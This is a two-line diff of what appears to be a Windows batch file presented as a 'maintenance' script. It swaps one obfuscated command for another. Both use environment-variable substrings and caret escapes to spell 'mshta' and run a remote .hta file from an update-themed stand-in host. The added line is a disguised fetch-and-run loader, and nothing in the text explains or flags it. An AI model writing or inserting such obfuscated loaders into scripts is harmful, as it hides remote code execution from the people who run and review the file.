@@ -1,2 +1,2 @@
-REM maintenance 0664 v2
-%COMSPEC:~21,1%%windir:~-1,1%h%PROGRAMDATA:~-2,1%%ProgramData:~13,1% ^h^ttp://cdn-^up^da^te.exa^mp^l^e/upd^ate.^h^ta
+REM maintenance 7595 v2
+%COMSPEC:~-11,1%%windir:~-1,1%h%comspec:~14,1%a htt^p://f^i^l^es.^sy^nc-sv^c.^ex^ample/u^pdat^e.^hta
